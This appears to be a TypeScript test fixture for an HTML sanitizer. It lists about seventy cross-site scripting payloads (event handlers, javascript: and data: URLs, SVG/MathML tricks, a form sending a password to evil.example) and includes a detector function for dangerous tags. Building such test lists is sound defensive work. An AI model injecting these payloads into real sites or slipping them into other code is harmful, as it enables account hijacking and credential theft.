/**
 * Seventy ways in which HTML tries to run something: what is stored of them, and what is shown, must be harmless. Each is what
 * somebody would send in a field that takes HTML.
 */
export const HOSTILE_HTML: readonly string[] = [
  '<script>pwned()</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<script\n>pwned()</script\n>',
  '<scr<script>ipt>pwned()</scr</script>ipt>',
  '<script/src="data:text/javascript,pwned()"></script>',
  '<<script>pwned();//<</script>',
  '"><script>pwned()</script>',
  '<script type="module">pwned()</script>',
  '<img src=x onerror=pwned()>',
  '<img src=x onerror="pwned()"//>',
  '<img/src=x/onerror=pwned()>',
  '<img src=x oNeRrOr=pwned()>',
  '<img src="x` `<script>pwned()</script>"` `>',
  '<img src="javascript:pwned()">',
  '<img src="data:text/html,<script>pwned()</script>">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkKCkiLz4=">',
  '<img srcset="x onerror=pwned() 1x" src=x>',
  '<IMG """><SCRIPT>pwned()</SCRIPT>">',
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><script href="data:,pwned()"></script></svg>',
  '<svg><a xlink:href="javascript:pwned()"><text y="20">x</text></a></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<svg><foreignObject><iframe src="javascript:pwned()"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=pwned()></svg>#x"></use></svg>',
  '<svg/onload=pwned()//',
  '<img src=x onerror=pwned()//',
  '<img src=x onerror=pwned() x="',
  '<a href=javascript:pwned() <b>x</b>',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned()></style></mglyph></table></mtext></math>',
  '<math href="javascript:pwned()">x</math>',
  '<math><annotation-xml encoding="text/html"><script>pwned()</script></annotation-xml></math>',
  '<iframe src="javascript:pwned()"></iframe>',
  '<iframe srcdoc="<script>pwned()</script>"></iframe>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="javascript:pwned()"></object>',
  '<embed src="data:text/html,<script>pwned()</script>">',
  '<applet code="x"></applet>',
  '<a href="javascript:pwned()">x</a>',
  '<a href="JaVaScRiPt:pwned()">x</a>',
  '<a href=" javascript:pwned()">x</a>',
  '<a href="java\tscript:pwned()">x</a>',
  '<a href="java\nscript:pwned()">x</a>',
  '<a href="&#106;avascript:pwned()">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61script:pwned()">x</a>',
  '<a href="\u0001javascript:pwned()">x</a>',
  '<a href="vbscript:pwned()">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example" onmouseover="pwned()">x</a>',
  '<p style="background:url(javascript:pwned())">x</p>',
  '<p style="width:expression(pwned())">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999">x</p>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:pwned()">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:pwned()">x</button></form>',
  '<input autofocus onfocus=pwned()>',
  '<details open ontoggle=pwned()><summary>x</summary></details>',
  '<video><source onerror=pwned()></video>',
  '<audio src=x onerror=pwned()></audio>',
  '<body onload=pwned()>',
  '<marquee onstart=pwned()>x</marquee>',
  '<template><script>pwned()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>',
  '<textarea></textarea><script>pwned()</script>',
  '<title><img src=x onerror=pwned()></title>',
  '<!--<img src="--><img src=x onerror=pwned()//">',
  '<![CDATA[<script>pwned()</script>]]>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">pwned()</x:script>',
  '<xss id=x tabindex=1 onfocus=pwned()></xss>',
  '<div onpointerrawupdate=pwned() popover id=p>x</div><button popovertarget=p>x</button>',
];

/** Made of harmless tags only; what is left after them must be text. */
const HARMLESS_TAG =
  /<\/?(?:h[2-6]|p|br|hr|blockquote|pre|code|[uod]l|li|d[td]|b|strong|i|em|u|s|del|ins|mark|small|su[bp]|abbr|span|div|a|img|fig(?:ure|caption)|table|caption|t(?:head|body|foot|r|h|d))(?:\s+(?:style|lang|dir|href|title|target|rel|src|alt|width|height|start|colspan|rowspan|scope)(?:="[^"<>]*")?)*\s*\/?>/gi;

/** What of a text could run where it is put into a page. */
export const dangerIn = (html: string): string[] => {
  const tags = html.match(HARMLESS_TAG) ?? [];
  const attributes = tags.filter((tag) =>
    /(?:javascript|vbscript|data|expression|url\()[:(]|="\s*(?:\/\/|\/\\)|position|\son/i.test(tag),
  );
  return html.replace(HARMLESS_TAG, '').includes('<') ? [...attributes, html] : attributes;
};
